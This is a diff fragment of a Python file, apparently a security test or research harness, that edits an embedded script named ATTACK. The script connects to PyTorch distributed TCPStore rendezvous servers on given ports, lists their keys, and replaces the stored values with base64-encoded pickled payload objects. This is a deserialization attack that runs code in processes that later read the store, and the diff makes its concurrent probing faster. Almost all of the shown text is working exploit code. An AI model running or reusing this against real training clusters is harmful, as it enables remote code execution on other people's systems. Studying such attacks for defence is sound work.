@@ -10,7 +10,7 @@ from pathlib import Path
 
 # Lists the keys of every store it can connect to, and replaces the states of rendezvous.
 ATTACK = """
-import base64, json, multiprocessing.connection, multiprocessing.popen_fork, os, pickle, sys
+import base64, json, multiprocessing.connection, multiprocessing.popen_fork, os, pickle, sys, time
 from torch.distributed import TCPStore
 
 if sys.argv[1] != "0":  # after the imports: an environment in root's home is not for others
@@ -29,12 +29,15 @@ def look(port, pipe):
             store.set(key, base64.b64encode(pickle.dumps(Payload())).decode())
     pipe.send(keys)
 
-found, fork = {}, multiprocessing.get_context("fork")
+answers, fork = {}, multiprocessing.get_context("fork")
 for port in map(int, sys.argv[3:]):
-    ours, theirs = fork.Pipe(duplex=False)
-    process = fork.Process(target=look, args=(port, theirs), daemon=True)
-    process.start()
-    found[port] = ours.recv() if ours.poll(5) else None
+    answers[port] = fork.Pipe(duplex=False)
+    fork.Process(target=look, args=(port, answers[port][1]), daemon=True).start()
+end = time.monotonic() + 8  # for all together: many never answer
+found = {}
+for port, (answer, _) in answers.items():
+    found[port] = answer.recv() if answer.poll(max(0, end - time.monotonic())) else None
+for process in multiprocessing.active_children():
     process.kill()
 print(json.dumps(found))
 """
